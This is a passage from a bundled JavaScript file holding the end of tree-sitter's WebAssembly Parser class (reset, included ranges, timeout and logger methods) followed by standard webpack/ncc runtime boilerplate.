    if (!treeAddress) {
      C.currentParseCallback = null;
      C.currentLogCallback = null;
      C.currentProgressCallback = null;
      return null;
    }
    if (!this.language) {
      throw new Error("Parser must have a language to parse");
    }
    const result = new Tree(INTERNAL, treeAddress, this.language, C.currentParseCallback);
    C.currentParseCallback = null;
    C.currentLogCallback = null;
    C.currentProgressCallback = null;
    return result;
  }
  /**
   * Instruct the parser to start the next parse from the beginning.
   *
   * If the parser previously failed because of a timeout, cancellation,
   * or callback, then by default, it will resume where it left off on the
   * next call to {@link Parser#parse} or other parsing functions.
   * If you don't want to resume, and instead intend to use this parser to
   * parse some other document, you must call `reset` first.
   */
  reset() {
    C._ts_parser_reset(this[0]);
  }
  /** Get the ranges of text that the parser will include when parsing. */
  getIncludedRanges() {
    C._ts_parser_included_ranges_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result;
  }
  /**
   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
   *
   * Get the duration in microseconds that parsing is allowed to take.
   *
   * This is set via {@link Parser#setTimeoutMicros}.
   */
  getTimeoutMicros() {
    return C._ts_parser_timeout_micros(this[0]);
  }
  /**
   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
   *
   * Set the maximum duration in microseconds that parsing should be allowed
   * to take before halting.
   *
   * If parsing takes longer than this, it will halt early, returning `null`.
   * See {@link Parser#parse} for more information.
   */
  setTimeoutMicros(timeout) {
    C._ts_parser_set_timeout_micros(this[0], 0, timeout);
  }
  /** Set the logging callback that a parser should use during parsing. */
  setLogger(callback) {
    if (!callback) {
      this.logCallback = null;
    } else if (typeof callback !== "function") {
      throw new Error("Logger callback must be a function");
    } else {
      this.logCallback = callback;
    }
    return this;
  }
  /** Get the parser's current logger. */
  getLogger() {
    return this.logCallback;
  }
};
// Annotate the CommonJS export names for ESM import in node:
0 && (0);
//# sourceMappingURL=tree-sitter.cjs.map


/***/ })

/******/ 	});
/************************************************************************/
/******/ 	// The module cache
/******/ 	var __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __nccwpck_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		var module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		var threw = true;
/******/ 		try {
/******/ 			__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
/******/ 			threw = false;
/******/ 		} finally {
/******/ 			if(threw) delete __webpack_module_cache__[moduleId];
/******/ 		}
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
/******/ 	/* webpack/runtime/asset-relocator-loader */
/******/ 	if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = __dirname + "/";
/******/ 	
/******/ 	/* webpack/runtime/create fake namespace object */
/******/ 	(() => {
/******/ 		var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
/******/ 		var leafPrototypes;
/******/ 		// create a fake namespace object
/******/ 		// mode & 1: value is a module id, require it
/******/ 		// mode & 2: merge all properties of value into the ns
/******/ 		// mode & 4: return value when already ns object
/******/ 		// mode & 16: return value when it's Promise-like
/******/ 		// mode & 8|1: behave like require
/******/ 		__nccwpck_require__.t = function(value, mode) {
/******/ 			if(mode & 1) value = this(value);
/******/ 			if(mode & 8) return value;
/******/ 			if(typeof value === 'object' && value) {
/******/ 				if((mode & 4) && value.__esModule) return value;
/******/ 				if((mode & 16) && typeof value.then === 'function') return value;
/******/ 			}
/******/ 			var ns = Object.create(null);
/******/ 			__nccwpck_require__.r(ns);
/******/ 			var def = {};
/******/ 			leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
/******/ 			for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
/******/ 				Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
/******/ 			}
/******/ 			def['default'] = () => (value);
/******/ 			__nccwpck_require__.d(ns, def);
/******/ 			return ns;
/******/ 		};
/******/ 	})();
/******/ 	
/******/ 	/* webpack/runtime/define property getters */
/******/ 	(() => {
/******/ 		// define getter functions for harmony exports
/******/ 		__nccwpck_require__.d = (exports, definition) => {
/******/ 			for(var key in definition) {
/******/ 				if(__nccwpck_require__.o(definition, key) && !__nccwpck_require__.o(exports, key)) {
/******/ 					Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
/******/ 				}
/******/ 			}
/******/ 		};
/******/ 	})();
/******/ 	
/******/ 	/* webpack/runtime/hasOwnProperty shorthand */
/******/ 	(() => {
/******/ 		__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
/******/ 	})();
/******/ 	
/******/ 	/* webpack/runtime/make namespace object */
/******/ 	(() => {
/******/ 		// define __esModule on exports
/******/ 		__nccwpck_require__.r = (exports) => {
/******/ 			if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
/******/ 				Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
/******/ 			}
/******/ 			Object.defineProperty(exports, '__esModule', { value: true });
/******/ 		};
/******/ 	})();
/******/ 	
/************************************************************************/
/******/ 	
/******/ 	// startup
/******/ 	// Load entry module and return exports
/******/ 	// This entry module is referenced by other modules so it can't be inlined
/******/ 	var __webpack_exports__ = __nccwpck_require__(5581);
/******/ 	module.exports = __webpack_exports__;
/******/ 	
/******/ })()
;